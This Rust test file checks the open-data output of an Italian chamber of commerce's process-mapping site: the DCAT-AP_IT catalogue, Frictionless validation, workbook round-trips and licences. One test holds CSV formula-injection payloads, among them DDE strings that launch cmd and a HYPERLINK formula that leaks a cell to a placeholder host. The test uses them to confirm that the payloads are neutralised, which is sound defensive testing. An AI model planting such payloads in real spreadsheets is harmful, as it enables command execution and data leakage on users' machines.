//! Open data a chamber can register in the national catalogue as it is:
//! the DCAT-AP_IT record read with a real RDF parser (every mandatory
//! element, vocabulary values as IRIs), the data package and the CSV
//! validated by Frictionless, the workbook read back with calamine, the CSV
//! imported again citing the original rows, one meaning of "updated", and
//! the licence on every page.

use crate::common::*;
use oxrdf::{Literal, Term, Triple};
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::Command;

const SITE: &str = "https://www.esempio.camcom.it/amministrazione-trasparente/mappatura/";
const DCATAPIT: &str = "http://dati.gov.it/onto/dcatapit#";
const DCAT: &str = "http://www.w3.org/ns/dcat#";
const DCT: &str = "http://purl.org/dc/terms/";
const FOAF: &str = "http://xmlns.com/foaf/0.1/";
const VCARD: &str = "http://www.w3.org/2006/vcard/ns#";
const RDF_TYPE: &str = "http://www.w3.org/1999/02/22-rdf-syntax-ns#type";
const XSD_DATE: &str = "http://www.w3.org/2001/XMLSchema#date";
const EU: &str = "http://publications.europa.eu/resource/authority/";

/// The bundled book with what the catalogue asks for: the chamber's IPA
/// code and the site's address.
fn catalogued() -> Book {
    let b = Book::new();
    let toml = b
        .read("book.toml")
        .replacen("[ente]\n", "[ente]\ncodice_ipa = \"cciaa_es\"\n", 1);
    let toml = toml.replacen(
        "# indirizzo = \"https://www.esempio.camcom.it/amministrazione-trasparente/mappatura-processi/\"",
        &format!("indirizzo = \"{SITE}\""),
        1,
    );
    assert!(toml.contains(SITE), "book.toml changed: fix the test");
    std::fs::write(b.join("book.toml"), toml).unwrap();
    let out = b.run(&["importa"]);
    assert!(out.status.success(), "{}", stderr(&out));
    b.freeze_first_edition();
    let out = b.run(&["costruisci"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        !stderr(&out).contains("codice_ipa"),
        "a book with the IPA code is still told it lacks it: {}",
        stderr(&out)
    );
    b
}

/// The triples of a Turtle file, parsed against the address it is
/// published at.
struct Graph(Vec<Triple>);

impl Graph {
    fn read(path: &Path, base: &str) -> Graph {
        let bytes = std::fs::read(path).unwrap();
        let triples = oxttl::TurtleParser::new()
            .with_base_iri(base)
            .unwrap()
            .for_slice(&bytes)
            .collect::<Result<Vec<_>, _>>()
            .unwrap_or_else(|e| panic!("{}: not valid Turtle: {e}", path.display()));
        Graph(triples)
    }

    fn objects(&self, s: &str, p: &str) -> Vec<&Term> {
        self.0
            .iter()
            .filter(|t| t.subject.to_string() == format!("<{s}>") && t.predicate.as_str() == p)
            .map(|t| &t.object)
            .collect()
    }

    fn one(&self, s: &str, p: &str) -> &Term {
        let o = self.objects(s, p);
        assert_eq!(o.len(), 1, "{s} should have exactly one {p}: {o:?}");
        o[0]
    }

    fn iri(&self, s: &str, p: &str) -> String {
        match self.one(s, p) {
            Term::NamedNode(n) => n.as_str().to_string(),
            other => panic!("{s} {p} should be an IRI, not {other}"),
        }
    }

    fn iris(&self, s: &str, p: &str) -> Vec<String> {
        self.objects(s, p)
            .into_iter()
            .map(|o| match o {
                Term::NamedNode(n) => n.as_str().to_string(),
                other => panic!("{s} {p} should be IRIs, not {other}"),
            })
            .collect()
    }

    fn literal(&self, s: &str, p: &str) -> &Literal {
        match self.one(s, p) {
            Term::Literal(l) => l,
            other => panic!("{s} {p} should be a literal, not {other}"),
        }
    }

    fn italian(&self, s: &str, p: &str) -> String {
        let l = self.literal(s, p);
        assert_eq!(
            l.language(),
            Some("it"),
            "{s} {p} should be in Italian (@it)"
        );
        assert!(!l.value().trim().is_empty(), "{s} {p} is empty");
        l.value().to_string()
    }

    fn date(&self, s: &str, p: &str) -> String {
        let l = self.literal(s, p);
        assert_eq!(
            l.datatype().as_str(),
            XSD_DATE,
            "{s} {p} should be an xsd:date"
        );
        l.value().to_string()
    }

    fn types(&self, s: &str) -> BTreeSet<String> {
        self.iris(s, RDF_TYPE).into_iter().collect()
    }

    fn has_types(&self, s: &str, types: &[&str]) {
        let have = self.types(s);
        for t in types {
            assert!(have.contains(*t), "{s} should be a {t}: it is {have:?}");
        }
    }

    fn subjects_of_type(&self, t: &str) -> Vec<String> {
        self.0
            .iter()
            .filter(|x| {
                x.predicate.as_str() == RDF_TYPE && x.object.to_string() == format!("<{t}>")
            })
            .map(|x| x.subject.to_string().trim_matches(['<', '>']).to_string())
            .collect()
    }
}

/// The file of the built site an address of it names.
fn file_of(b: &Book, url: &str, base: &str) -> PathBuf {
    let rest = url
        .strip_prefix(base)
        .unwrap_or_else(|| panic!("{url} is not an address of the site ({base})"));
    b.join("book").join(rest)
}

#[test]
fn the_catalogue_record_has_every_mandatory_dcat_ap_it_element() {
    let b = catalogued();
    let g = Graph::read(
        &b.join("book/dati/catalogo.ttl"),
        &format!("{SITE}dati/catalogo.ttl"),
    );

    // Catalogue.
    let catalogues = g.subjects_of_type(&format!("{DCATAPIT}Catalog"));
    assert_eq!(catalogues.len(), 1, "one catalogue");
    let cat = &catalogues[0];
    g.has_types(
        cat,
        &[&format!("{DCATAPIT}Catalog"), &format!("{DCAT}Catalog")],
    );
    g.italian(cat, &format!("{DCT}title"));
    g.italian(cat, &format!("{DCT}description"));
    let modified = g.date(cat, &format!("{DCT}modified"));
    let publisher = g.iri(cat, &format!("{DCT}publisher"));
    let dataset = g.iri(cat, &format!("{DCAT}dataset"));

    // Publisher and rights holder: the chamber, with its IPA code.
    g.has_types(
        &publisher,
        &[&format!("{DCATAPIT}Agent"), &format!("{FOAF}Agent")],
    );
    assert_eq!(
        g.literal(&publisher, &format!("{DCT}identifier")).value(),
        "cciaa_es"
    );
    assert_eq!(
        g.italian(&publisher, &format!("{FOAF}name")),
        "Camera di commercio di Esempio"
    );

    // Dataset.
    g.has_types(
        &dataset,
        &[&format!("{DCATAPIT}Dataset"), &format!("{DCAT}Dataset")],
    );
    assert_eq!(
        g.literal(&dataset, &format!("{DCT}identifier")).value(),
        "cciaa_es:mappatura-processi"
    );
    g.italian(&dataset, &format!("{DCT}title"));
    g.italian(&dataset, &format!("{DCT}description"));
    assert_eq!(g.date(&dataset, &format!("{DCT}modified")), modified);
    assert_eq!(
        g.iris(&dataset, &format!("{DCAT}theme")),
        vec![format!("{EU}data-theme/GOVE")]
    );
    assert_eq!(g.iri(&dataset, &format!("{DCT}rightsHolder")), publisher);
    assert_eq!(
        g.iri(&dataset, &format!("{DCT}accrualPeriodicity")),
        format!("{EU}frequency/ANNUAL")
    );
    // The date the catalogue gives is the one the site shows.
    let home = b.read("book/index.html");
    assert!(
        home.contains(&format!("<time datetime=\"{modified}\">")),
        "home page and catalogue disagree on the date {modified}"
    );

    // Contact point: an office and an e-mail address as an IRI.
    let contact = g.iri(&dataset, &format!("{DCAT}contactPoint"));
    assert_ne!(
        contact, publisher,
        "agent and contact point need distinct IRIs"
    );
    g.has_types(
        &contact,
        &[&format!("{DCATAPIT}Organization"), &format!("{VCARD}Kind")],
    );
    assert!(!g
        .literal(&contact, &format!("{VCARD}fn"))
        .value()
        .is_empty());
    assert_eq!(
        g.iri(&contact, &format!("{VCARD}hasEmail")),
        "mailto:trasparenza@esempio.camcom.it"
    );

    // Distributions: three formats now, three per edition, each a file of
    // the site, in an EU file type, under the licence of AgID's vocabulary.
    let distributions = g.iris(&dataset, &format!("{DCAT}distribution"));
    assert_eq!(distributions.len(), 6, "{distributions:?}");
    let mut formats = BTreeSet::new();
    for d in &distributions {
        g.has_types(
            d,
            &[
                &format!("{DCATAPIT}Distribution"),
                &format!("{DCAT}Distribution"),
            ],
        );
        let format = g.iri(d, &format!("{DCT}format"));
        assert!(format.starts_with(&format!("{EU}file-type/")), "{format}");
        formats.insert(format.rsplit('/').next().unwrap().to_string());
        let url = g.iri(d, &format!("{DCAT}accessURL"));
        let file = file_of(&b, &url, SITE);
        assert!(file.is_file(), "{d}: {url} is not a file of the site");
        let licence = g.iri(d, &format!("{DCT}license"));
        assert_eq!(
            licence,
            "https://w3id.org/italia/controlled-vocabulary/licences/A21_CCBY40"
        );
        g.has_types(&licence, &[&format!("{DCATAPIT}LicenseDocument")]);
        assert_eq!(
            g.iri(&licence, &format!("{DCT}type")),
            "https://w3id.org/italia/controlled-vocabulary/licences/A2_Attribution"
        );
    }
    assert_eq!(
        formats,
        ["CSV", "JSON", "XLSX"]
            .map(String::from)
            .into_iter()
            .collect()
    );
    assert!(
        distributions.iter().any(|d| g
            .iri(d, &format!("{DCAT}accessURL"))
            .ends_with("edizioni/2026-01-28/processi.csv")),
        "the edition's data are distributions too"
    );

    // The site links the record, and says whose data and under which
    // licence.
    let page = b.read("book/dati-aperti.html");
    assert!(attrs(&page, "href").contains(&"dati/catalogo.ttl".to_string()));
    assert!(text(&page).contains("CC BY 4.0"));
}

#[test]
fn without_the_sites_address_the_record_works_wherever_it_is_uploaded() {
    let b = Book::built();
    let out = b.run(&["costruisci"]);
    let err = stderr(&out);
    assert!(
        err.contains("codice_ipa") && err.contains("[manuale] manca «indirizzo»"),
        "build should say what the catalogue lacks: {err}"
    );
    // Relative addresses, resolved against wherever the file is read from.
    let base = "https://altro.example/qualsiasi/percorso/";
    let g = Graph::read(
        &b.join("book/dati/catalogo.ttl"),
        &format!("{base}dati/catalogo.ttl"),
    );
    let dataset = &g.subjects_of_type(&format!("{DCATAPIT}Dataset"))[0];
    for d in g.iris(dataset, &format!("{DCAT}distribution")) {
        let url = g.iri(&d, &format!("{DCAT}accessURL"));
        assert!(file_of(&b, &url, base).is_file(), "{url}");
    }
}

/// Where Frictionless is: `FRICTIONLESS`, or on the path. Missing, the test
/// fails: it is what checks the data package.
fn frictionless() -> PathBuf {
    if let Some(p) = std::env::var_os("FRICTIONLESS") {
        return PathBuf::from(p);
    }
    let ok = Command::new("frictionless")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    assert!(
        ok,
        "frictionless non trovato: questo test valida datapackage.json e il CSV con Frictionless \
         (PyPI «frictionless»); scripts/test lo installa in target/frictionless e lo indica con \
         la variabile FRICTIONLESS"
    );
    PathBuf::from("frictionless")
}

#[test]
fn the_data_package_describes_every_column_and_frictionless_finds_it_valid() {
    let b = Book::built();
    let package: serde_json::Value =
        serde_json::from_str(&b.read("book/dati/datapackage.json")).unwrap();
    let resource = &package["resources"][0];
    assert_eq!(resource["path"], "processi.csv");
    let fields = resource["schema"]["fields"].as_array().unwrap();
    let mut r = csv::Reader::from_path(b.join("book/dati/processi.csv")).unwrap();
    let header: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
    let names: Vec<&str> = fields.iter().map(|f| f["name"].as_str().unwrap()).collect();
    assert_eq!(names, header, "the schema lists the CSV's columns in order");
    for f in fields {
        assert!(!f["title"].as_str().unwrap().is_empty(), "{f}");
        assert!(!f["description"].as_str().unwrap().is_empty(), "{f}");
    }
    // The sheet's own headers are kept in the dictionary.
    let input = fields.iter().find(|f| f["name"] == "input").unwrap();
    assert!(
        input["description"]
            .as_str()
            .unwrap()
            .contains("Elementi in ingresso che innescano il processo"),
        "{input}"
    );
    assert_eq!(package["licenses"][0]["name"], "CC-BY-4.0");
    assert!(package["sources"][0]["title"]
        .as_str()
        .unwrap()
        .contains("Camera di commercio di Esempio"));
    // The names are stable machine names, not the sheet's wording.
    for h in [
        "codice",
        "livello",
        "codice_padre",
        "titolo",
        "nome_attivita",
        "input",
        "output",
        "sequenza_attivita",
        "responsabile",
        "riga_foglio",
        "tipo_riga",
    ] {
        assert!(header.contains(&h.to_string()), "no column {h}: {header:?}");
    }

    let bin = frictionless();
    let run = |dir: &Path| {
        Command::new(&bin)
            .args(["validate", "--json", "datapackage.json"])
            .current_dir(dir)
            .output()
            .expect("run frictionless")
    };
    let out = run(&b.join("book/dati"));
    assert!(
        out.status.success(),
        "frictionless: {}{}",
        stdout(&out),
        stderr(&out)
    );
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["valid"], true, "{report}");
    // The validator is real: a level that is not a number fails it.
    let broken = tempfile::tempdir().unwrap();
    std::fs::copy(
        b.join("book/dati/datapackage.json"),
        broken.path().join("datapackage.json"),
    )
    .unwrap();
    let csv_text = b.read("book/dati/processi.csv");
    let mut lines: Vec<String> = csv_text.lines().map(String::from).collect();
    lines[1] = lines[1].replacen(",2,", ",due,", 1);
    std::fs::write(broken.path().join("processi.csv"), lines.join("\n") + "\n").unwrap();
    let out = run(broken.path());
    assert!(
        !out.status.success(),
        "frictionless accepted a level «due»: {}",
        stdout(&out)
    );
}

#[test]
fn the_workbook_opens_with_calamine_to_the_csv_rows() {
    use calamine::{Data, Reader, Xlsx};
    let b = Book::built();
    let mut wb: Xlsx<_> = calamine::open_workbook(b.join("book/dati/processi.xlsx")).unwrap();
    let range = wb.worksheet_range("Processi").unwrap();
    let cell = |c: &Data| match c {
        Data::Empty => String::new(),
        Data::String(s) => s.clone(),
        Data::Float(f) if f.fract() == 0.0 => format!("{}", *f as i64),
        Data::Int(i) => i.to_string(),
        other => panic!("unexpected cell {other:?}"),
    };
    let sheet: Vec<Vec<String>> = range.rows().map(|r| r.iter().map(cell).collect()).collect();
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(b.join("book/dati/processi.csv"))
        .unwrap();
    let csv_rows: Vec<Vec<String>> = r
        .records()
        .map(|x| {
            x.unwrap()
                .iter()
                .map(|c| manuale::dictionary::csv_original(c).to_string())
                .collect()
        })
        .collect();
    assert!(csv_rows.len() > 300);
    assert_eq!(sheet.len(), csv_rows.len());
    for (i, (a, b)) in sheet.iter().zip(&csv_rows).enumerate() {
        // calamine drops trailing empty cells of a row.
        let mut a = a.clone();
        a.resize(b.len(), String::new());
        assert_eq!(&a, b, "row {} differs", i + 1);
    }
    // Same bytes on a second build: the workbook's date is the data's.
    let first = std::fs::read(b.join("book/dati/processi.xlsx")).unwrap();
    let out = b.run(&["costruisci", "--destinazione", "di-nuovo"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        std::fs::read(b.join("di-nuovo/dati/processi.xlsx")).unwrap(),
        first
    );
}

#[test]
fn a_name_given_only_on_a_heading_row_reaches_the_json() {
    let b = Book::shared();
    let json = b.json();
    let d51 = json["processi"]
        .as_array()
        .unwrap()
        .iter()
        .find(|n| n["codice"] == "D5.1")
        .unwrap();
    let headings = d51["intestazioni"]
        .as_array()
        .expect("D5.1 has heading rows");
    let row = headings
        .iter()
        .find(|h| h["riga_foglio"] == 309)
        .unwrap_or_else(|| panic!("line 309 missing: {headings:?}"));
    assert!(
        !row["nome_attivita"].as_str().unwrap_or("").is_empty(),
        "{row}"
    );
    // And in the CSV, marked as a heading row with its line.
    let csv_text = b.read("book/dati/processi.csv");
    assert!(
        csv_text
            .lines()
            .any(|l| l.starts_with("D5.1,") && l.contains(",intestazione,309,")),
        "D5.1's heading row is not in the CSV as such"
    );
}

#[test]
fn a_section_is_updated_on_the_same_day_everywhere() {
    let b = catalogued();
    // A process below C2 changes later than the rest.
    let page = b.join("content");
    let file = walkdir::WalkDir::new(&page)
        .into_iter()
        .filter_map(Result::ok)
        .find(|e| e.file_name() == "C2.5.3.1.md")
        .map(|e| e.path().to_path_buf())
        .expect("page of C2.5.3.1");
    let text = std::fs::read_to_string(&file).unwrap();
    let text = regex_lite_updated(&text, "2027-03-15");
    std::fs::write(&file, text).unwrap();
    let out = b.run(&["costruisci"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let json = b.json();
    let node = |c: &str| {
        json["processi"]
            .as_array()
            .unwrap()
            .iter()
            .find(|n| n["codice"] == c)
            .unwrap()
            .clone()
    };
    for code in ["C2", "C2.5", "C2.5.3", "C2.5.3.1"] {
        assert_eq!(node(code)["aggiornato"], "2027-03-15", "{code} in the JSON");
        let html = b.read(&format!("book/processi/{code}.html"));
        assert!(
            html.contains("<time datetime=\"2027-03-15\">"),
            "{code}'s page shows another date"
        );
    }
    let sitemap = b.read("book/sitemap.xml");
    assert!(sitemap.contains(&format!(
        "<loc>{SITE}processi/C2.html</loc><lastmod>2027-03-15</lastmod>"
    )));
    let csv_text = b.read("book/dati/processi.csv");
    let c2 = csv_text.lines().find(|l| l.starts_with("C2,")).unwrap();
    assert!(c2.contains(",2027-03-15,"), "{c2}");
    let g = Graph::read(
        &b.join("book/dati/catalogo.ttl"),
        &format!("{SITE}dati/catalogo.ttl"),
    );
    let dataset = &g.subjects_of_type(&format!("{DCATAPIT}Dataset"))[0];
    assert_eq!(g.date(dataset, &format!("{DCT}modified")), "2027-03-15");
}

/// The page's `updated` in its front matter set to `day`.
fn regex_lite_updated(page: &str, day: &str) -> String {
    let mut out = String::new();
    let mut done = false;
    for line in page.lines() {
        if !done && line.starts_with("updated = ") {
            out.push_str(&format!("updated = \"{day}\""));
            done = true;
        } else {
            out.push_str(line);
        }
        out.push('\n');
    }
    assert!(done, "no updated line in the page's front matter");
    out
}

#[test]
fn every_page_states_the_licence() {
    let b = Book::shared();
    let mut pages = 0;
    for e in walkdir::WalkDir::new(b.join("book")) {
        let e = e.unwrap();
        if e.path().extension().is_some_and(|x| x == "html") {
            let html = std::fs::read_to_string(e.path()).unwrap();
            assert!(
                html.contains(
                    "<link rel=\"license\" href=\"https://creativecommons.org/licenses/by/4.0/deed.it\">"
                ),
                "{}: no rel=license",
                e.path().display()
            );
            pages += 1;
        }
    }
    assert!(pages > 300);
}

/// Cells a spreadsheet would run as formulas (OWASP «CSV injection»): the
/// CSV neutralises them with an apostrophe, the JSON keeps them as they are,
/// and the CSV imported again gives the original text.
#[test]
fn formula_cells_never_run_when_the_csv_is_opened() {
    let b = Book::new();
    let attacks = [
        "=HYPERLINK(\"https://example.invalid/?\"&A1,\"Clicca qui\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C notepad'!'A1'",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=1+1",
        "'=già con l'apostrofo",
    ];
    let mut sheet = std::fs::read_to_string(b.join(SHEET)).unwrap();
    if !sheet.ends_with('\n') {
        sheet.push('\n');
    }
    for (i, a) in attacks.iter().enumerate() {
        sheet.push_str(&format!(
            "F1.1.1.{} Processo {i}\t{a}\tistanza\t{a}\t1. uno 2. due\t{a}\n",
            90 + i
        ));
    }
    std::fs::write(b.join(SHEET), sheet).unwrap();
    assert!(b.run(&["importa"]).status.success());
    let out = b.run(&["costruisci"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let mut r = csv::Reader::from_path(b.join("book/dati/processi.csv")).unwrap();
    let mut seen = 0;
    for rec in r.records() {
        let rec = rec.unwrap();
        for cell in rec.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell that a spreadsheet runs: {cell}"
            );
            if attacks.iter().any(|a| cell == format!("'{a}")) {
                seen += 1;
            }
        }
    }
    assert_eq!(
        seen,
        attacks.len() * 3,
        "each attack in name, output, responsible"
    );
    // The JSON keeps the text as it is.
    let json = b.read("book/dati/processi.json");
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    let f = v["processi"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["codice"] == "F1.1.1.90")
        .unwrap();
    assert_eq!(f["attivita"][0]["nome_attivita"], attacks[0]);
    // The data package and the page of the open data say how to undo it.
    assert!(b
        .read("book/dati/datapackage.json")
        .contains("si toglie quel primo apostrofo"));
    assert!(text(&b.read("book/dati-aperti.html")).contains("si toglie quel primo apostrofo"));
    // manuale reads its own CSV back to the original text.
    let c = tempfile::tempdir().unwrap();
    std::fs::copy(b.join("book/dati/processi.csv"), c.path().join("p.csv")).unwrap();
    let out = b.run(&[
        "controlla",
        c.path().join("p.csv").to_str().unwrap(),
        "--formato",
        "json",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let out = b.run(&["importa", c.path().join("p.csv").to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    let page = walkdir::WalkDir::new(b.join("content"))
        .into_iter()
        .filter_map(Result::ok)
        .find(|e| e.file_name() == "F1.1.1.95.md")
        .unwrap();
    let text = std::fs::read_to_string(page.path()).unwrap();
    assert!(text.contains("name = \"'=già con l'apostrofo\""), "{text}");
}

/// The JSON's keys follow the CSV's naming rule: every key is a column of
/// the dictionary, or one of the four that group them. The English keys of
/// the first releases are still readable for a release, in a file beside
/// it that holds the same data under the old names.
#[test]
fn the_json_keys_are_the_csvs_names_and_the_old_ones_stay_readable_beside_them() {
    let b = Book::shared();
    fn keys(v: &serde_json::Value, out: &mut std::collections::BTreeSet<String>) {
        match v {
            serde_json::Value::Object(m) => {
                for (k, v) in m {
                    out.insert(k.clone());
                    // The sheet's own columns are named by their headers.
                    if k != "altre_colonne" && k != "extra" {
                        keys(v, out);
                    }
                }
            }
            serde_json::Value::Array(a) => a.iter().for_each(|v| keys(v, out)),
            _ => {}
        }
    }
    let new = b.json();
    let mut found = std::collections::BTreeSet::new();
    keys(&new, &mut found);
    let csv = b.read("book/dati/processi.csv");
    let columns: Vec<&str> = csv.lines().next().unwrap().split(',').collect();
    for k in &found {
        assert!(
            columns.contains(&k.as_str())
                || ["processi", "attivita", "intestazioni", "altre_colonne"].contains(&k.as_str()),
            "JSON key «{k}» is not a CSV column: {columns:?}"
        );
    }
    assert!(found.len() >= 15, "{found:?}");
    // The old file: the same values, under the old names.
    let old: serde_json::Value =
        serde_json::from_str(&b.read("book/dati/processi-chiavi-inglesi.json")).unwrap();
    let renames = [
        ("processes", "processi"),
        ("code", "codice"),
        ("title", "titolo"),
        ("level", "livello"),
        ("level_name", "nome_livello"),
        ("parent", "codice_padre"),
        ("url", "pagina"),
        ("updated", "aggiornato"),
        ("activities", "attivita"),
        ("headings", "intestazioni"),
        ("line", "riga_foglio"),
        ("code_cell", "codifica_unioncamere"),
        ("name", "nome_attivita"),
        ("steps", "sequenza_attivita"),
        ("responsible", "responsabile"),
        ("extra", "altre_colonne"),
    ];
    fn renamed(v: &serde_json::Value, r: &[(&str, &str)]) -> serde_json::Value {
        match v {
            serde_json::Value::Object(m) => serde_json::Value::Object(
                m.iter()
                    .map(|(k, v)| {
                        let k2 = r
                            .iter()
                            .find(|(o, _)| o == k)
                            .map_or(k.as_str(), |(_, n)| n);
                        let v2 = if k == "extra" {
                            v.clone()
                        } else {
                            renamed(v, r)
                        };
                        (k2.to_string(), v2)
                    })
                    .collect(),
            ),
            serde_json::Value::Array(a) => {
                serde_json::Value::Array(a.iter().map(|v| renamed(v, r)).collect())
            }
            other => other.clone(),
        }
    }
    assert!(old["processes"].as_array().is_some_and(|a| a.len() > 300));
    assert_eq!(renamed(&old, &renames), new);
    // Editions are published once: their files have the new keys alone.
    assert!(
        !b.join("book/edizioni").exists()
            || walkdir::WalkDir::new(b.join("book/edizioni"))
                .into_iter()
                .filter_map(Result::ok)
                .all(|e| e.file_name() != "processi-chiavi-inglesi.json")
    );
}
